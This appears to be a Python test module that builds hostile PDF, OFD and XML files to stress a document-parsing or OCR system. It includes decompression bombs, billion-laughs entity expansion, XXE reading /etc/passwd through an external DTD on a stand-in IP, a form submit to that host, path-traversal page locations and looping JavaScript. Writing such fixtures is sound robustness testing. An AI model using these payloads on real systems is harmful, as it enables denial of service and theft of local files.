"""More that hurts: packed objects, codecs that swell, forms that script, tables of tables, boxes in circles, odd polyglots."""

import struct
import zlib

import pikepdf

from tests.hostile.archives import zipped
from tests.hostile.maker import SCRIPTS, Made, csv_of
from tests.hostile.papers import action, changed, drawing, media, raw
from tests.hostile.pictures import noise
from tests.hostile.wider import heic, wider
from tests.ocr.paper import pdf
from tests.ocr.test_hostile import workbook

Name, Dictionary, Array = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array
CATALOG, PAGES = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<<>>>>"
QUARTERS = (0.25, 0.5, 0.75)


def packed(content: bytes, more: bytes = b"") -> bytes:
    squeezed = zlib.compress(content, 9)
    return b"<<%s/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (more, len(squeezed), squeezed)


def object_stream(count: int, of: bytes) -> bytes:
    """A stream that says it holds so many objects."""
    index = b" ".join(b"%d %d" % (n + 10, n * len(of)) for n in range(min(count, 200_000)))
    return packed(index + b" " + of * min(count, 200_000), b"/Type/ObjStm/N %d/First %d" % (count, len(index) + 1))


def crossed(stream: bytes) -> bytes:
    """A paper whose table is a stream."""
    head = b"%PDF-1.5\n1 0 obj\n" + CATALOG + b"\nendobj\n2 0 obj\n" + PAGES + b"\nendobj\n"
    return head + b"9 0 obj\n" + stream + b"\nendobj\nstartxref\n%d\n%%%%EOF" % len(head)


def image(sort: str, content: bytes, width: int, height: int, bits: int = 8, **more: object) -> bytes:
    """A page with one picture of this codec."""

    def change(document: pikepdf.Pdf) -> None:
        facts = {
            "Type": Name.XObject,
            "Subtype": Name.Image,
            "Width": width,
            "Height": height,
            "BitsPerComponent": bits,
        }
        stream = pikepdf.Stream(document, content, **facts, ColorSpace=Name.DeviceGray, Filter=Name(sort), **more)
        document.pages[0].Resources.XObject = Dictionary(I=document.make_indirect(stream))
        document.pages[0].Contents = document.make_stream(b"q 500 0 0 700 0 0 cm /I Do Q")

    return changed(change)


def jbig2(width: int, height: int, repeats: int) -> bytes:
    """A page of claimed size, then generic regions as large as it, again and again."""
    page = struct.pack(">IBBBI", 0, 48, 0, 1, 19) + struct.pack(">IIIIBH", width, height, 0, 0, 0, 0)
    body = (
        struct.pack(">IIIIB", width, height, 0, 0, 0) + b"\x00" + b"\x03\xff\xfd\xff\x02\xfe\xfe\xfe" + b"\xff\xac" * 4
    )
    region = b"".join(struct.pack(">IBBBI", n + 1, 38, 0, 1, len(body)) + body for n in range(repeats))
    return image("/JBIG2Decode", page + region, width, height, 1)


def jpx(width: int, height: int, parts: int = 3, tile: int = 1) -> bytes:
    """The head of a JPEG 2000 stream with a claimed size, in tiles as small as may be."""
    size = struct.pack(">HIIIIIIIIH", 0, width, height, 0, 0, tile, tile, 0, 0, parts) + b"\x07\x01\x01" * min(
        parts, 10_000
    )
    head = b"\xff\x4f\xff\x51" + struct.pack(">H", min(len(size) + 2, 65_535)) + size
    style = b"\xff\x52" + struct.pack(">HBBHBBBBBB", 12, 0, 0, 1, 0, 32, 4, 4, 0, 0)
    quantum = b"\xff\x5c" + struct.pack(">HB", 3 + 97, 0x40) + b"\x40" * 97
    return image(
        "/JPXDecode", head + style + quantum + b"\xff\x90\0\x0a\0\0\0\0\0\0\0\1\xff\x93" + noise(2000), width, height
    )


def shading() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        function = document.make_stream(
            b"{ " + b"dup mul " * 20_000 + b"}", FunctionType=4, Domain=[0, 1, 0, 1], Range=[0, 1]
        )
        shade = Dictionary(ShadingType=1, ColorSpace=Name.DeviceGray, Function=function, Matrix=[600, 0, 0, 800, 0, 0])
        document.pages[0].Resources.Shading = Dictionary(S=document.make_indirect(shade))
        document.pages[0].Contents = document.make_stream(b"/S sh\n" * 200)

    return changed(change)


def tiling() -> bytes:
    """A pattern of a pixel, drawn all over, in a pattern, in a pattern."""

    def change(document: pikepdf.Pdf) -> None:
        inner = None
        for _ in range(6):
            resources = Dictionary(Pattern=Dictionary(P=inner)) if inner is not None else Dictionary()
            content = b"/Pattern cs /P scn 0 0 900 900 re f" if inner is not None else b"0 0 .1 .1 re f"
            facts = {
                "PatternType": 1,
                "PaintType": 1,
                "TilingType": 1,
                "BBox": [0, 0, 1, 1],
                "XStep": 0.01,
                "YStep": 0.01,
            }
            inner = document.make_indirect(document.make_stream(content, **facts, Resources=resources))
        document.pages[0].Resources.Pattern = Dictionary(P=inner)
        document.pages[0].Contents = document.make_stream(b"/Pattern cs /P scn 0 0 600 800 re f")

    return changed(change)


def form(xfa: bool) -> bytes:
    """Fields that script, calculate and name each other as parents; an XFA with entities and a script."""

    def change(document: pikepdf.Pdf) -> None:
        script = Dictionary(S=Name.JavaScript, JS="while(true){app.alert('SPECIMEN')}")
        field = document.make_indirect(
            Dictionary(FT=Name.Tx, T="a" * 10_000, V=SCRIPTS[0], DA="/Helv 0 Tf", Rect=[0, 0, 9e9, 9e9])
        )
        field.Parent, field.Kids = field, Array([field] * 200)
        field.Type, field.Subtype, field.AA = (
            Name.Annot,
            Name.Widget,
            Dictionary(K=script, F=script, V=script, C=script),
        )
        document.Root.AcroForm = Dictionary(Fields=Array([field] * 2000), CO=Array([field]), NeedAppearances=True)
        document.pages[0].Annots = Array([field] * 2000)
        document.Root.OpenAction = script
        if xfa:
            laughing = (
                b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "' + b"&a;" * 500 + b'"><!ENTITY c "' + b"&b;" * 500 + b'">]>'
            )
            text = (
                laughing
                + b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>x</script>&c;</template></xdp:xdp>'
            )
            document.Root.AcroForm.XFA = document.make_stream(text)

    return changed(change)


def circles() -> bytes:
    """Outlines, names, destinations and marked content that come back to themselves."""

    def change(document: pikepdf.Pdf) -> None:
        node = document.make_indirect(Dictionary(Title="SPECIMEN"))
        node.Next = node.First = node.Last = node.Parent = node.Prev = node
        document.Root.Outlines = node
        names = document.make_indirect(Dictionary(Limits=["a", "z"]))
        names.Kids = Array([names] * 50)
        document.Root.Names = Dictionary(Dests=names, EmbeddedFiles=names)
        tree = document.make_indirect(Dictionary(Type=Name.StructTreeRoot))
        tree.K = tree.P = tree
        document.Root.StructTreeRoot = tree
        document.pages[0].Resources.Font = Dictionary(F1=node)
        document.pages[0].Resources.ExtGState = Dictionary(G=node)

    return changed(change)


def wide_glyphs() -> bytes:
    """A font whose letters draw the page again, and a map to Unicode that gives a book for each."""

    def change(document: pikepdf.Pdf) -> None:
        book = b"<41> <" + "样".encode("utf-16-be").hex().encode() * 20_000 + b">\n"
        mapping = document.make_stream(
            b"begincmap 1 begincodespacerange <00><ff> endcodespacerange 1 beginbfchar "
            + book * 20
            + b"endbfchar endcmap"
        )
        font = document.make_indirect(
            Dictionary(Type=Name.Font, Subtype=Name.Type3, FontBBox=[0, 0, 9, 9], FontMatrix=[1, 0, 0, 1, 0, 0])
        )
        font.FirstChar, font.LastChar, font.Widths, font.ToUnicode = 65, 65, [1], mapping
        font.Encoding = Dictionary(Differences=[65, Name.A])
        font.CharProcs = Dictionary(A=document.make_stream(b"1 0 d0 BT /F1 1 Tf (" + b"A" * 500 + b") Tj ET"))
        font.Resources = Dictionary(Font=Dictionary(F1=font))
        document.pages[0].Resources.Font = Dictionary(F1=font)
        document.pages[0].Contents = document.make_stream(b"BT /F1 9 Tf (" + b"A" * 5_000 + b") Tj ET")

    return changed(change)


def ofd(document: bytes, *more: tuple[str, bytes]) -> bytes:
    """A paper of the OFD sort whose main part is this."""
    root = b'<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" DocType="OFD"><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>'
    return zipped(("OFD.xml", root), ("Doc_0/Document.xml", document), *more)


def ofd_document(pages: str, more: str = "") -> bytes:
    head = (
        '<ofd:Document xmlns:ofd="http://www.ofdspec.org/2016">'
        + more
        + "<ofd:CommonData><ofd:PageArea><ofd:PhysicalBox>"
    )
    return f"{head}0 0 210 297</ofd:PhysicalBox></ofd:PageArea></ofd:CommonData><ofd:Pages>{pages}</ofd:Pages></ofd:Document>".encode()


def papers() -> dict[str, Made]:
    laughing = "<!DOCTYPE x [<!ENTITY a 'ha'><!ENTITY b '" + "&a;" * 1000 + "'><!ENTITY c '" + "&b;" * 1000 + "'>]>"
    made: dict[str, Made] = {
        "packed_objects.pdf": lambda: raw(CATALOG, PAGES, PAGE, packed(b"q Q"), object_stream(200_000, b"[] ")),
        "packed_lies.pdf": lambda: raw(CATALOG, PAGES, PAGE, packed(b"q Q"), object_stream(2**31 - 1, b"null ")),
        "packed_bomb.pdf": lambda: raw(CATALOG, PAGES, PAGE, packed(b"0 0 m\n" * 30_000_000)),
        "packed_nests.pdf": lambda: crossed(object_stream(5, b"<</Type/ObjStm/Extends 9 0 R>> ")),
        "table_claims.pdf": lambda: crossed(
            packed(b"\1" * 100, b"/Type/XRef/Size 2147483647/W[1 8 8]/Index[0 2147483647]/Root 1 0 R")
        ),
        "table_widths.pdf": lambda: crossed(
            packed(b"\1" * 100, b"/Type/XRef/Size 9/W[999999999 -1 4294967296]/Root 1 0 R")
        ),
        "table_self.pdf": lambda: crossed(packed(b"\1\0\0" * 9, b"/Type/XRef/Size 9/W[1 1 1]/Root 1 0 R/Prev 100")),
        "predictor.pdf": lambda: raw(
            CATALOG,
            PAGES,
            PAGE,
            packed(
                b"\2" * 1_000_000, b"/DecodeParms<</Predictor 15/Columns 2147483647/Colors 32/BitsPerComponent 16>>"
            ),
        ),
        "user_unit.pdf": lambda: changed(lambda d: d.pages[0].__setitem__("/UserUnit", 75_000)),
        "huge_box.pdf": lambda: media(-2_147_483_648, -2_147_483_648, 2_147_483_647, 2_147_483_647),
        "crop_outside.pdf": lambda: changed(lambda d: d.pages[0].__setitem__("/CropBox", Array([1e7, 1e7, 2e7, 2e7]))),
        "rotated.pdf": lambda: changed(lambda d: d.pages[0].__setitem__("/Rotate", 2_147_483_647)),
        "jbig2_claims.pdf": lambda: jbig2(60_000, 60_000, 1),
        "jbig2_repeats.pdf": lambda: jbig2(8_000, 8_000, 4000),
        "jbig2_some.pdf": lambda: jbig2(2_000, 2_000, 40),
        "jpx_claims.pdf": lambda: jpx(2**31 - 1, 2**31 - 1),
        "jpx_tiles.pdf": lambda: jpx(20_000, 20_000),
        "jpx_parts.pdf": lambda: jpx(4000, 4000, 16_384, 4000),
        "inline_picture.pdf": lambda: drawing(
            b"q 500 0 0 700 0 0 cm BI /W 50000 /H 50000 /BPC 8 /CS /RGB ID " + b"x" * 1000 + b" EI Q\n" * 50
        ),
        "shading.pdf": shading,
        "tiling.pdf": tiling,
        "form.pdf": lambda: form(False),
        "form_xfa.pdf": lambda: form(True),
        "submit.pdf": lambda: action(S=Name.SubmitForm, F="http://198.51.100.1/", Fields=[], Flags=4),
        "import.pdf": lambda: action(S=Name.ImportData, F="/etc/passwd"),
        "circles.pdf": circles,
        "glyphs.pdf": wide_glyphs,
        "nested_text.pdf": lambda: drawing(b"BT /F1 9 Tf [" + b"(" * 300_000 + b"] TJ ET"),
        "nested_marks.pdf": lambda: drawing(b"/X BMC " * 500_000),
        "dashes.pdf": lambda: drawing(b"[0.0001 0.0001] 0 d 0 0 m 600 800 l S\n" * 50),
        "drawing_svg.pdf": lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>' + pdf(),
        "appended.pdf": lambda: pdf() + b"\n%%EOF\n" * 100_000,
        "prefixed.pdf": lambda: b"\n" * 1000 + pdf(),
        "bidi.pdf": lambda: pdf((("SPECIMEN \u202e\u2066\u200f" + "\u0301" * 500, "\ufeff\u200b样本\u0007\u001b[2J"),)),
        "loop.ofd": lambda: ofd(
            ofd_document("".join(f'<ofd:Page ID="{n}" BaseLoc="Document.xml"/>' for n in range(300)))
        ),
        "slip.ofd": lambda: ofd(
            ofd_document('<ofd:Page ID="1" BaseLoc="../../../../etc/passwd"/><ofd:Page ID="2" BaseLoc="/etc/passwd"/>')
        ),
        "laughing.ofd": lambda: ofd(laughing.encode() + ofd_document('<ofd:Page ID="1" BaseLoc="&c;"/>')),
        "miles.ofd": lambda: ofd(
            ofd_document('<ofd:Page ID="1" BaseLoc="p.xml"/>').replace(b"0 0 210 297", b"0 0 99999999 99999999"),
            ("Doc_0/p.xml", b'<ofd:Page xmlns:ofd="http://www.ofdspec.org/2016"><ofd:Content/></ofd:Page>'),
        ),
        "deep.ofd": lambda: ofd(b"<a>" * 300_000),
        "laughing.xml": lambda: ("<?xml version='1.0'?>" + laughing + "<EInvoice>&c;</EInvoice>").encode(),
        "deep.xml": lambda: b'<?xml version="1.0"?><EInvoice>' + b"<a>" * 500_000,
        "outside.xml": lambda: (
            b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://198.51.100.1/x.dtd" [<!ENTITY e SYSTEM "file:///etc/passwd">]><EInvoice>&e;</EInvoice>'
        ),
    }
    for part in QUARTERS:
        made[f"quarter_{part}.pdf"] = lambda p=part: (c := pdf())[: int(len(c) * p)]  # type: ignore[misc]
        made[f"quarter_{part}.heic"] = lambda p=part: (c := heic())[: int(len(c) * p)]  # type: ignore[misc]
        made[f"quarter_{part}.xlsx"] = lambda p=part: (c := workbook())[: int(len(c) * p)]  # type: ignore[misc]
        made[f"quarter_{part}.zip"] = lambda p=part: (c := zipped(("a.csv", csv_of(500))))[: int(len(c) * p)]  # type: ignore[misc]
    return made


def deeper() -> dict[str, Made]:
    """File name -> its maker."""
    return {**papers(), **wider()}
